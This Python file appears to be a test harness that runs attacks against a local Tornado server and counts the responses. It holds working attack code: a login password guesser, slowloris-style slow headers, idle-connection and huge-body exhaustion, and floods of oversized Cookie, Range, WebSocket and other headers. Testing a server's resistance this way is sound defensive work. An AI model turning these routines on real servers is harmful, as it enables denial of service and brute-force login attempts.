"""Attackers, in a process of their own: `_attackers.py KIND PORT SECONDS ADDRESS...`.

Prints one JSON object when the time is over: how many answers of each status there were, and how many of the
connections that were opened last were still open.
"""

import asyncio
import collections
import contextlib
import json
import re
import socket
import ssl
import sys

TARGET = "127.0.0.1"
PAUSE = 0.01
"""Seconds before a new connection, so that the attacker has time for its other ones."""

BODY = 512 << 20
CHUNK = 65536
BODY_PACE = 2_000_000
"""Bytes a second of each body: a home's line; it also bounds what a server without a limit buffers here."""

answers: collections.Counter[str] = collections.Counter()
streams: list[asyncio.StreamWriter] = []


def context() -> ssl.SSLContext:
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


CONTEXT = context()


async def connect(port, address, *, tls=True):
    more = {"ssl": CONTEXT} if tls else {}
    reader, writer = await asyncio.open_connection(TARGET, port, local_addr=(address, 0), **more)
    streams.append(writer)
    return reader, writer


async def answer(reader):
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin1")
    length = re.search(r"content-length: (\d+)", head, re.IGNORECASE)
    body = await reader.readexactly(int(length[1])) if length else b""
    return head, body


async def guess(port, address, number):
    """Guess as fast as the answers come, over one connection after the other."""
    while True:
        try:
            reader, writer = await connect(port, address)
            writer.write(b"GET /login HTTP/1.1\r\nHost: here\r\n\r\n")
            head, _ = await answer(reader)
            token = re.search(r"_xsrf=([^;]+)", head)[1]
            while True:
                form = f"password=guess-{number}&_xsrf={token}"
                said = (
                    f"POST /login HTTP/1.1\r\nHost: here\r\nCookie: _xsrf={token}\r\n"
                    "Content-Type: application/x-www-form-urlencoded\r\n"
                    f"Content-Length: {len(form)}\r\n\r\n{form}"
                )
                writer.write(said.encode())
                head, _ = await answer(reader)
                answers[head.split()[1]] += 1
        except (OSError, asyncio.IncompleteReadError, TypeError):
            answers["hung up"] += 1
            await asyncio.sleep(PAUSE)


async def idle(port, address, _):
    """Connect, and say nothing."""
    with contextlib.suppress(OSError):
        await connect(port, address, tls=False)


async def slow(port, address, _):
    """Send a header a byte a second, again and again."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await connect(port, address)
            writer.write(b"GET /login HTTP/1.1\r\nHost: here\r\nX-Slow: ")
            while True:
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(1.0)
        await asyncio.sleep(PAUSE)


async def body(port, address, _):
    """Send a body as big as a bare server takes."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await connect(port, address)
            writer.write(f"POST /login HTTP/1.1\r\nHost: here\r\nContent-Length: {BODY}\r\n\r\n".encode())
            while True:
                writer.write(bytes(CHUNK))
                await writer.drain()
                answers["bytes"] += CHUNK
                await asyncio.sleep(CHUNK / BODY_PACE)
        await asyncio.sleep(PAUSE * 10)


HEAD = 15_000
"""Bytes, a little less than a server of ours reads."""


def fill(pattern, between):
    """Return so many of the pattern as a head has room for, each with its number."""
    parts, length = [], 0
    while length < HEAD:
        parts.append(pattern.format(len(parts)))
        length += len(parts[-1]) + len(between)
    return between.join(parts)


def flood(*fields, line="GET /login", body=""):
    """Send the same request as fast as the answers come."""
    said = "\r\n".join((f"{line} HTTP/1.1", "Host: here", *fields, "", body)).encode()

    async def attack(port, address, _):
        while True:
            try:
                reader, writer = await connect(port, address)
                while True:
                    writer.write(said)
                    head, _body = await asyncio.wait_for(answer(reader), 10)
                    answers[head.split()[1]] += 1
            except (OSError, asyncio.IncompleteReadError):
                answers["hung up"] += 1
                await asyncio.sleep(PAUSE)

    return attack


STATIC = "GET /static/favicons/favicon.ico"
"""A file, whose handler looks at more of a head."""

SOCKET = (
    *("Connection: upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)
EVENTS = "GET /api/events/subscribe"

FLOODS = {
    "Cookie": flood(f"Cookie: {fill('a{}=b', '; ')}"),
    "Accept-Language": flood(f"Accept-Language: {fill('a{};q=0.1', ',')}"),
    "Content-Type": flood(
        f"Content-Type: multipart/form-data; {fill('a{}=b', ';')}; boundary=x",
        "Content-Length: 5",
        line="POST /login",
        body="--x--",
    ),
    "If-None-Match": flood("If-None-Match: " + fill('"{}"', ","), line=STATIC),
    "If-Modified-Since": flood("If-Modified-Since: " + fill("{}", " "), line=STATIC),
    "Range": flood("Range: bytes=" + fill("{}-", ","), line=STATIC),
    "Connection": flood("Connection: " + fill("a{}", ",")),
    "Sec-WebSocket-Extensions": flood(
        *SOCKET, "Sec-WebSocket-Extensions: " + fill("a{};b=c", ","), line=EVENTS
    ),
    "Sec-WebSocket-Protocol": flood(*SOCKET, "Sec-WebSocket-Protocol: " + fill("a{}", ","), line=EVENTS),
    "X-Forwarded-For": flood("X-Forwarded-For: " + fill("10.0.0.{}", ",")),
    "query": flood(line="GET /login?" + fill("a{}=b", "&")),
    "many fields": flood(fill("a{}: b", "\r\n")),
}
"""What tornado takes apart only when a handler asks for it, from 16 addresses each."""

KINDS = {
    "1 guesser": (guess, 1),
    "16 guessers": (guess, 16),
    "2,000 idle connections": (idle, 2000),
    "100 slow headers": (slow, 100),
    "16 bodies of 512 MB": (body, 16),
    **{f"16 x {name}": (attack, 16) for name, attack in FLOODS.items()},
    "few descriptors": (idle, 600),
}
"""By name: the attack, and how many at once."""

ADDRESSES = dict.fromkeys((f"16 x {name}" for name in FLOODS), 16)
"""From how many addresses, where it is not from four."""


async def main(kind, port, seconds, addresses):
    attack, count = KINDS[kind]
    tasks = [
        asyncio.ensure_future(attack(port, addresses[number % len(addresses)], number))
        for number in range(count)
    ]
    await asyncio.sleep(seconds)
    open_now = sum(not each.is_closing() and still_open(each) for each in streams[-count:])
    for task in tasks:
        task.cancel()
    print(json.dumps({"answers": answers, "open": open_now}), flush=True)


def still_open(writer):
    plain = writer.get_extra_info("socket")
    with contextlib.suppress(OSError):
        return plain.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1  # TCP_ESTABLISHED
    return False


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4:]))
